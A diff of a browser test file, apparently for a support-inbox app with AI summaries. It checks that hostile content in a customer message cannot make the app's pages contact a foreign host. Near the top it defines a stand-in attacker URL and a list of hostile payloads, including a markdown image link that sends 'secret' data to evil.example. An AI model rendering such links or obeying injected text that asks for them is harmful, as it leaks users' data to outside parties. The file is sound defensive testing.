@@ -15,7 +15,7 @@ from tests.fakes.messages_api import FakeMessagesApi
 from tests.fakes.messages_rules import Json
 from tests.fakes.messages_script import Answer, Text, ToolUse
 
-pytestmark = pytest.mark.browser
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]  # ten answers, and every screen
 EVIL = "https://evil.example/x"
 HOSTILE = [
     f"![a]({EVIL}.png?d=secret)",
@@ -88,8 +88,7 @@ async def test_no_browser_asks_a_foreign_host_for_anything(tmp_path: Path) -> No
         await v.write(f"I want to talk to a person. {EVERYTHING}")
         await o.page.locator("[data-row]").first.click()
         await o.press(re.compile("^Take"))
-        await o.press("Summarise with AI")
-        await o.page.locator(".story-ai").wait_for()
+        await o.page.locator(".story-ai").wait_for(timeout=20_000)  # it is long, so it is summarised
         await o.page.get_by_role("textbox", name=re.compile("Reply to")).press("Alt+s")
         await o.page.locator(".ghost").wait_for()
         for why in await o.page.get_by_text("Why did it say that?").all():
